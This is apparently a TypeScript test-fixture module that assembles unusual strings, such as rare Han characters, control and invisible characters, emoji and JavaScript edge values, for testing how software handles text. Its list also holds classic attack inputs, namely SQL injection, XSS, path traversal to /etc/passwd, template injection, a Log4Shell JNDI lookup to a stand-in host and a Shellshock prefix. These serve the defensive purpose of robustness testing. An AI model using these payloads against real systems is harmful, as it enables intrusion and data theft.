import { hostileText } from "@/lib/testing/word/hostile-texts";

/** Texts that break programs: 485 made of hostile pieces, and 200 of what Chinese texts and pasted ones can hold. */

const character = (code: number) => String.fromCodePoint(code);
const inRange = (from: number, to: number, count: number) =>
  Array.from({ length: count }, (_, at) => character(from + Math.floor(((to - from) * at) / count)));

/** Rare Han: Extension A, compatibility, Extensions B to I. */
const han = [
  ...inRange(0x3400, 0x4dbf, 8),
  ...inRange(0xf900, 0xfad9, 8),
  ...inRange(0x20000, 0x2a6df, 20),
  ...inRange(0x2a700, 0x2ebe0, 20),
  ...inRange(0x2f800, 0x2fa1d, 8),
  ...inRange(0x30000, 0x323af, 16),
  ...inRange(0x2ebf0, 0x2ee5d, 8),
].map((each) => `村名${each}镇`);
/** Controls, blanks, marks of direction and of nothing, halves and noncharacters, each between two Han. */
const unseen = [
  ...inRange(0x00, 0x20, 32),
  ...inRange(0x7f, 0xa1, 34),
  ...inRange(0x2000, 0x2070, 28),
  "\u00ad\u034f",
  "\u115f",
  "\u3164",
  "\ufeff",
  "\ufffd",
  "\ufffe",
  "\uffff",
  "\ud800",
  "\udc00",
  "\udc00\ud800",
  "\u{e0041}",
  "\u{10ffff}",
  "\ue000",
  "\u{f0000}",
].map((each) => `甲${each}乙`);
const said = [
  "“引号”——……《》〔1〕",
  "①②③ ㈠㈡ ⅠⅡⅢ ㎡ ℃ ‰",
  "＝１＋１",
  "ｆｕｌｌ　ｗｉｄｔｈ",
  "﷽".repeat(30),
  "Z̸̨͓a̷͕̓l̴̬͝g̶̱̀o̵̟͗",
  "葛\u{e0100}飾",
  "🇨🇳👨‍👩‍👧‍👦🏳️‍🌈",
  "null",
  "undefined",
  "NaN",
  "true",
  "0",
  "-0",
  "1e309",
  "9007199254740993",
  "1,000,000.00",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "then",
  "[object Object]",
  "${7*7}{{7*7}}<%= 7*7 %>#{7*7}",
  "%s%n%d",
  "%00",
  "\\u0000\\x00",
  "' OR '1'='1' --",
  "'; DROP TABLE visits; --",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "javascript:alert(1)",
  "../../../etc/passwd",
  "CON",
  "file:///etc/passwd",
  "${jndi:ldap://x.example/a}",
  "() { :;}; echo",
  "字".repeat(350_000),
  " ",
  "\u3000",
  "",
];

export const strangeTexts: readonly string[] = [
  ...Array.from({ length: 485 }, (_, seed) => hostileText(seed)),
  ...han,
  ...unseen,
  ...said,
];

/** What a reader of a text sees of it: without blanks, controls, and characters that take no room. */
export const seenOf = (text: string) =>
  text.replace(
    /[\s\p{Control}\p{Format}\p{Surrogate}\p{Noncharacter_Code_Point}\u034f\u115f\u1160\u2800\u3164\uffa0\ufffd]/gu,
    "",
  );
